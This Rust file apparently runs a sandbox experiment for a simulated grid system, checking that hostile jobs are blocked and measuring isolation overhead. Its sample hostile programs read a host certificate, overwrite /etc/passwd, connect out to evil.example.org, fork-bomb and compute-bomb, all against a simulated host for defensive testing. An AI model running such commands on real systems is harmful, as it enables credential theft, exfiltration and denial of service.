//! E11 — untrusted jobs in a trusted environment (§5.5, §7).
//!
//! Two tables:
//! 1. **Enforcement matrix** — hostile jarlets under the restrictive
//!    policy, in both execution modes: everything must be blocked; only
//!    in-process violations contaminate the host.
//! 2. **Isolation overhead** — the cost of the "separate JVM" mode as a
//!    function of program length (per-op crossing cost), the trade-off an
//!    administrator weighs when "the Grid administrator must decide which
//!    mode should be run".
//!
//! Both run on the simulated host's modelled costs, so both are gated.

use infogram_bench::{fmt_ratio, fmt_secs, row, table, Joined, Report};
use infogram_exec::sandbox::{run_jarlet, ExecMode, Jarlet, Policy};
use infogram_host::machine::SimulatedHost;
use infogram_sim::ManualClock;
use std::sync::Arc;

fn host() -> Arc<SimulatedHost> {
    let h = SimulatedHost::default_on(ManualClock::new());
    h.fs.write("/data/input.dat", "specimen");
    h
}

fn main() {
    let mut report = Report::start(
        env!("CARGO_CRATE_NAME"),
        "E11",
        "sandboxed execution of untrusted jobs (§5.5/§7)",
    );

    println!("\n-- enforcement matrix (restrictive policy) --");
    let programs: [(&str, &str); 6] = [
        (
            "well-behaved",
            "read /data/input.dat; compute 5; write /tmp/out x; print ok",
        ),
        ("fs-read-escape", "read /etc/grid-security/hostcert.pem"),
        ("fs-write-escape", "write /etc/passwd pwned"),
        ("net-exfiltration", "net evil.example.org:31337"),
        ("fork-bomb", "spawn; spawn; spawn; spawn"),
        ("compute-bomb", "compute 999999999"),
    ];
    let mut rows = Vec::new();
    // (blocked in isolated, blocked in-process, host hit by isolated,
    // host hit in-process) per program.
    let mut verdicts = Vec::new();
    for (name, src) in programs {
        let jarlet = Jarlet::parse(src).expect("parse");
        let h = host();
        let iso = run_jarlet(&jarlet, &Policy::restrictive(), ExecMode::Isolated, &h);
        let h = host();
        let inp = run_jarlet(&jarlet, &Policy::restrictive(), ExecMode::InProcess, &h);
        verdicts.push((
            !iso.violations.is_empty(),
            !inp.violations.is_empty(),
            iso.host_contaminated,
            inp.host_contaminated,
        ));
        rows.push(row![
            name,
            if iso.violations.is_empty() {
                "allowed"
            } else {
                "BLOCKED"
            },
            if inp.violations.is_empty() {
                "allowed"
            } else {
                "BLOCKED"
            },
            if iso.host_contaminated { "yes" } else { "no" },
            if inp.host_contaminated { "yes" } else { "no" }
        ]);
    }
    table(
        "program|isolated|in-process|host-hit (iso)|host-hit (inproc)",
        &rows,
    );

    println!("\n-- isolation overhead vs program length (permissive policy) --");
    let mut rows = Vec::new();
    let mut per_op = Vec::new();
    for ops in [10usize, 100, 1000, 10_000] {
        let src = vec!["compute 1"; ops].join("; ");
        let jarlet = Jarlet::parse(&src).expect("parse");
        let h = host();
        let fast = run_jarlet(&jarlet, &Policy::permissive(), ExecMode::InProcess, &h);
        let slow = run_jarlet(&jarlet, &Policy::permissive(), ExecMode::Isolated, &h);
        let f = fast.runtime.as_secs_f64();
        let s = slow.runtime.as_secs_f64();
        per_op.push((s - f) / ops as f64);
        rows.push(row![
            ops,
            fmt_secs(f),
            fmt_secs(s),
            fmt_secs(s - f),
            fmt_ratio(s / f.max(1e-12))
        ]);
    }
    table("ops|in-process|isolated|overhead|slowdown", &rows);

    let hostile = &verdicts[1..];
    report.claim(
        "hostile_blocked_in_both_modes",
        "all hostile operations are blocked in both modes; the well-behaved job runs",
        hostile.iter().all(|v| v.0 && v.1) && !verdicts[0].0 && !verdicts[0].1,
        format!(
            "{} of {} hostile programs blocked isolated, {} in-process",
            hostile.iter().filter(|v| v.0).count(),
            hostile.len(),
            hostile.iter().filter(|v| v.1).count()
        ),
    );
    report.claim(
        "isolation_contains_violations",
        "isolation contains violations that in-process mode lets touch the host",
        verdicts.iter().all(|v| !v.2) && hostile.iter().all(|v| v.3),
        format!(
            "host hit by {} isolated and {} in-process runs",
            verdicts.iter().filter(|v| v.2).count(),
            verdicts.iter().filter(|v| v.3).count()
        ),
    );
    report.claim(
        "isolation_overhead_fixed_per_op",
        "isolation adds a fixed overhead per operation, whatever the program's length",
        per_op[0] > 0.0 && per_op.iter().all(|o| (o - per_op[0]).abs() <= 1e-9),
        per_op.iter().map(|&o| fmt_secs(o)).joined() + " per op",
    );
    report.finish();
}
